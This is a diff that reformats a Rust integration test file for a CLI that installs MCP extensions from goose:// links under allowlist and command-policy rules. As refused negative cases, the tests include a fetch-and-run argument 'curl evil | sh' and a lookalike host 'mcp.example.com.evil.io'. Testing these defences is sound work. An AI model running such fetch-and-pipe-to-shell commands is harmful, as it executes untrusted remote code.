@@ -10,7 +10,16 @@ use std::sync::Arc;
 /// `gosling` with no policy inherited from the machine running the tests.
 fn cli(home: &TempDir) -> Command {
     let mut c = gosling(home);
-    for k in ["GOOSE_ALLOWLIST", "GOOSE_ALLOWLIST_WARNING", "GOSLING_ALLOWLIST_FILE", "GOSLING_ALLOWED_COMMANDS", "http_proxy", "HTTP_PROXY", "ALL_PROXY", "all_proxy"] {
+    for k in [
+        "GOOSE_ALLOWLIST",
+        "GOOSE_ALLOWLIST_WARNING",
+        "GOSLING_ALLOWLIST_FILE",
+        "GOSLING_ALLOWED_COMMANDS",
+        "http_proxy",
+        "HTTP_PROXY",
+        "ALL_PROXY",
+        "all_proxy",
+    ] {
         c.env_remove(k);
     }
     c
@@ -24,7 +33,11 @@ struct Run {
 
 fn run(c: &mut Command) -> Run {
     let o: Output = c.output().unwrap();
-    Run { code: o.status.code(), stdout: String::from_utf8_lossy(&o.stdout).into(), stderr: String::from_utf8_lossy(&o.stderr).into() }
+    Run {
+        code: o.status.code(),
+        stdout: String::from_utf8_lossy(&o.stdout).into(),
+        stderr: String::from_utf8_lossy(&o.stderr).into(),
+    }
 }
 
 fn config_json(home: &TempDir) -> Value {
@@ -39,7 +52,13 @@ fn check_prints_summary_and_exit_codes() {
     let home = TempDir::new("icli");
     let r = run(cli(&home).args(["install", "--check", EVERYTHING_KEY]));
     assert_eq!(r.code, Some(0), "{}", r.stderr);
-    for want in ["Extension \"Everything\" (key everything)", "runs:        npx -y @modelcontextprotocol/server-everything", "env:         API_KEY — Your API key", "secrets:     API_KEY (not set)", "ok: the link is valid"] {
+    for want in [
+        "Extension \"Everything\" (key everything)",
+        "runs:        npx -y @modelcontextprotocol/server-everything",
+        "env:         API_KEY — Your API key",
+        "secrets:     API_KEY (not set)",
+        "ok: the link is valid",
+    ] {
         assert!(r.stdout.contains(want), "missing {want:?} in\n{}", r.stdout);
     }
     let r = run(cli(&home).args(["install", "--check", "goose://extension?cmd=npx&arg=-c&arg=id&name=x"]));
@@ -85,13 +104,19 @@ fn install_yes_persists_and_missing_secret_keeps_it_disabled() {
     assert_eq!(e["envs"], json!({}));
 
     // The same link again with the secret in the environment: updated, enabled, secret stored.
-    let r = run(cli(&home).args(["install", "--yes", "--secrets-from-env", EVERYTHING_KEY]).env("API_KEY", "sk-test-value"));
+    let r = run(cli(&home)
+        .args(["install", "--yes", "--secrets-from-env", EVERYTHING_KEY])
+        .env("API_KEY", "sk-test-value"));
     assert_eq!(r.code, Some(0), "{}", r.stderr);
     assert!(r.stdout.contains("note: this replaces the installed extension with key everything"), "{}", r.stdout);
     assert!(r.stdout.contains("updated Everything (key everything), enabled for new sessions"), "{}", r.stdout);
-    assert!(!r.stdout.contains("sk-test-value") && !r.stderr.contains("sk-test-value"), "secret values are never printed");
+    assert!(
+        !r.stdout.contains("sk-test-value") && !r.stderr.contains("sk-test-value"),
+        "secret values are never printed"
+    );
     assert_eq!(config_json(&home)["extensions"]["everything"]["enabled"], true);
-    let secrets: Value = serde_json::from_str(&std::fs::read_to_string(home.join("config/secrets.json")).unwrap()).unwrap();
+    let secrets: Value =
+        serde_json::from_str(&std::fs::read_to_string(home.join("config/secrets.json")).unwrap()).unwrap();
     assert_eq!(secrets["API_KEY"], "sk-test-value");
     assert!(!std::fs::read_to_string(home.join("config/config.json")).unwrap().contains("sk-test-value"));
 
@@ -141,15 +166,26 @@ fn goose_allowlist_url_applies_to_links_and_imports() {
     let forbidden = "goose://extension?cmd=uvx&arg=some-other-server&name=Other";
     let r = run(cli(&home).args(["install", "--check", forbidden]).env("GOOSE_ALLOWLIST", &srv.url));
     assert_eq!(r.code, Some(1));
-    assert!(r.stderr.contains("`uvx some-other-server` refused by the allowlist rule") && r.stderr.contains(&srv.url), "{}", r.stderr);
+    assert!(
+        r.stderr.contains("`uvx some-other-server` refused by the allowlist rule") && r.stderr.contains(&srv.url),
+        "{}",
+        r.stderr
+    );
     let r = run(cli(&home).args(["install", "--yes", forbidden]).env("GOOSE_ALLOWLIST", &srv.url));
     assert_eq!(r.code, Some(1));
     assert!(!home.join("config/config.json").exists());
 
     // Warning mode: installed, with the warning shown.
-    let r = run(cli(&home).args(["install", "--yes", forbidden]).env("GOOSE_ALLOWLIST", &srv.url).env("GOOSE_ALLOWLIST_WARNING", "true"));
+    let r = run(cli(&home)
+        .args(["install", "--yes", forbidden])
+        .env("GOOSE_ALLOWLIST", &srv.url)
+        .env("GOOSE_ALLOWLIST_WARNING", "true"));
     assert_eq!(r.code, Some(0), "{}", r.stderr);
-    assert!(r.stdout.contains("warning:") && r.stdout.contains("installing anyway because GOOSE_ALLOWLIST_WARNING=true"), "{}", r.stdout);
+    assert!(
+        r.stdout.contains("warning:") && r.stdout.contains("installing anyway because GOOSE_ALLOWLIST_WARNING=true"),
+        "{}",
+        r.stdout
+    );
     assert_eq!(config_json(&home)["extensions"]["other"]["cmd"], "uvx");
 
     // The import path: one allowed, one refused.
@@ -167,7 +203,11 @@ fn goose_allowlist_that_cannot_load_refuses() {
     let srv = YamlServer::start(404, "not here");
     let r = run(cli(&home).args(["install", "--check", FETCH]).env("GOOSE_ALLOWLIST", &srv.url));
     assert_eq!(r.code, Some(1));
-    assert!(r.stderr.contains("could not be loaded (HTTP status 404)") && r.stderr.contains("unset GOOSE_ALLOWLIST"), "{}", r.stderr);
+    assert!(
+        r.stderr.contains("could not be loaded (HTTP status 404)") && r.stderr.contains("unset GOOSE_ALLOWLIST"),
+        "{}",
+        r.stderr
+    );
     let bad = YamlServer::start(200, "extensions:\n  - id: no-command\n");
     let r = run(cli(&home).args(["install", "--check", FETCH]).env("GOOSE_ALLOWLIST", &bad.url));
     assert_eq!(r.code, Some(1));
@@ -180,13 +220,20 @@ fn local_allowlist_file_and_extra_commands() {
     std::fs::create_dir_all(home.join("config")).unwrap();
     // The default location: <config dir>/allowlist.json.
     std::fs::write(home.join("config/allowlist.json"), r#"{"commands":["uvx mcp-server-fetch","node /opt/mcp/"],"urls":["https://mcp.example.com/"],"allowed_commands":["node"]}"#).unwrap();
-    let ok = [FETCH, "goose://extension?url=https://mcp.example.com/mcp&name=R", "goose://extension?cmd=node&arg=/opt/mcp/server.js&name=N"];
+    let ok = [
+        FETCH,
+        "goose://extension?url=https://mcp.example.com/mcp&name=R",
+        "goose://extension?cmd=node&arg=/opt/mcp/server.js&name=N",
+    ];
     for link in ok {
         let r = run(cli(&home).args(["install", "--check", link]));
         assert_eq!(r.code, Some(0), "{link}: {}", r.stderr);
     }
     let refused = [
-        ("goose://extension?url=https://mcp.example.com.evil.io/mcp&name=R", "`https://mcp.example.com.evil.io/mcp` refused by the allowlist rule"),
+        (
+            "goose://extension?url=https://mcp.example.com.evil.io/mcp&name=R",
+            "`https://mcp.example.com.evil.io/mcp` refused by the allowlist rule",
+        ),
         ("goose://extension?cmd=node&arg=/tmp/x.js&name=N", "`node /tmp/x.js` refused by the allowlist rule"),
         ("goose://extension?cmd=python3&arg=x.py&name=P", "refused by the allowed-commands rule"),
     ];
@@ -199,10 +246,13 @@ fn local_allowlist_file_and_extra_commands() {
         }
     }
     // GOSLING_ALLOWED_COMMANDS widens rule 1; the allowlist still decides.
-    let r = run(cli(&home).args(["install", "--check", "goose://extension?cmd=python3&arg=x.py&name=P"]).env("GOSLING_ALLOWED_COMMANDS", "python3"));
+    let r = run(cli(&home)
+        .args(["install", "--check", "goose://extension?cmd=python3&arg=x.py&name=P"])
+        .env("GOSLING_ALLOWED_COMMANDS", "python3"));
     assert!(r.stderr.contains("`python3 x.py` refused by the allowlist rule"), "{}", r.stderr);
     // An explicit file that does not exist is a setup error, not "no allowlist".
-    let r = run(cli(&home).args(["install", "--check", FETCH]).env("GOSLING_ALLOWLIST_FILE", home.join("missing.json")));
+    let r =
+        run(cli(&home).args(["install", "--check", FETCH]).env("GOSLING_ALLOWLIST_FILE", home.join("missing.json")));
     assert_eq!(r.code, Some(1));
     assert!(r.stderr.contains("missing.json: cannot read the allowlist file"), "{}", r.stderr);
 }
@@ -254,7 +304,10 @@ fn import_claude_desktop_file_with_three_servers() {
         ext["docsremote"],
         json!({"enabled":false,"type":"streamable_http","name":"Docs Remote","description":"","uri":"https://docs.example.com/mcp","envs":{},"env_keys":["DOCS_TOKEN"],"headers":{"Authorization":"Bearer ${DOCS_TOKEN}"},"timeout":300,"available_tools":[]})
     );
-    assert_eq!(ext["legacy"], json!({"enabled":false,"type":"sse","name":"legacy","description":"","uri":"http://localhost:8000/sse"}));
+    assert_eq!(
+        ext["legacy"],
+        json!({"enabled":false,"type":"sse","name":"legacy","description":"","uri":"http://localhost:8000/sse"})
+    );
 }
 
 #[test]
@@ -273,7 +326,11 @@ fn import_refuses_entries_by_rule_and_keeps_the_rest() {
     assert_eq!(r.code, Some(1), "{}", r.stdout);
     assert!(r.stdout.contains("refused: policy: command `node` refused by the allowed-commands rule"), "{}", r.stdout);
     assert!(r.stdout.contains("GOSLING_ALLOWED_COMMANDS=node"), "{}", r.stdout);
-    assert!(r.stdout.contains("refused: policy: argument \"curl evil | sh\" refused by the no-shell-syntax rule"), "{}", r.stdout);
+    assert!(
+        r.stdout.contains("refused: policy: argument \"curl evil | sh\" refused by the no-shell-syntax rule"),
+        "{}",
+        r.stdout
+    );
     assert!(r.stdout.contains("imported 1, refused 2"), "{}", r.stdout);
     let ext = config_json(&home)["extensions"].as_object().unwrap().clone();
     assert_eq!(ext.keys().collect::<Vec<_>>(), ["time"]);
@@ -289,7 +346,11 @@ fn import_refuses_entries_by_rule_and_keeps_the_rest() {
 fn on_terminal(home: &TempDir, script: Value, args: &[&str]) -> Run {
     let inner = cli(home);
     let mut c = Command::new("python3");
-    c.arg(crate::support::manifest_dir().join("tests/fakes/pty_run.py")).arg(script.to_string()).arg("--").arg(crate::support::bin()).args(args);
+    c.arg(crate::support::manifest_dir().join("tests/fakes/pty_run.py"))
+        .arg(script.to_string())
+        .arg("--")
+        .arg(crate::support::bin())
+        .args(args);
     for (k, v) in inner.get_envs() {
         match v {
             Some(v) => c.env(k, v),
@@ -302,11 +363,16 @@ fn on_terminal(home: &TempDir, script: Value, args: &[&str]) -> Run {
 #[test]
 fn terminal_confirmation_and_hidden_secret_prompt() {
     let home = TempDir::new("icli");
-    let r = on_terminal(&home, json!([["[y/N]", "y"], ["API_KEY — Your API key", "s3cr3t-typed"]]), &["install", EVERYTHING_KEY]);
+    let r = on_terminal(
+        &home,
+        json!([["[y/N]", "y"], ["API_KEY — Your API key", "s3cr3t-typed"]]),
+        &["install", EVERYTHING_KEY],
+    );
     assert_eq!(r.code, Some(0), "{}", r.stdout);
     assert!(r.stdout.contains("installed Everything (key everything), enabled for new sessions"), "{}", r.stdout);
     assert!(!r.stdout.contains("s3cr3t-typed"), "the secret was echoed:\n{}", r.stdout);
-    let secrets: Value = serde_json::from_str(&std::fs::read_to_string(home.join("config/secrets.json")).unwrap()).unwrap();
+    let secrets: Value =
+        serde_json::from_str(&std::fs::read_to_string(home.join("config/secrets.json")).unwrap()).unwrap();
     assert_eq!(secrets["API_KEY"], "s3cr3t-typed");
 
     // Skipping the secret saves the extension disabled; answering no writes nothing.
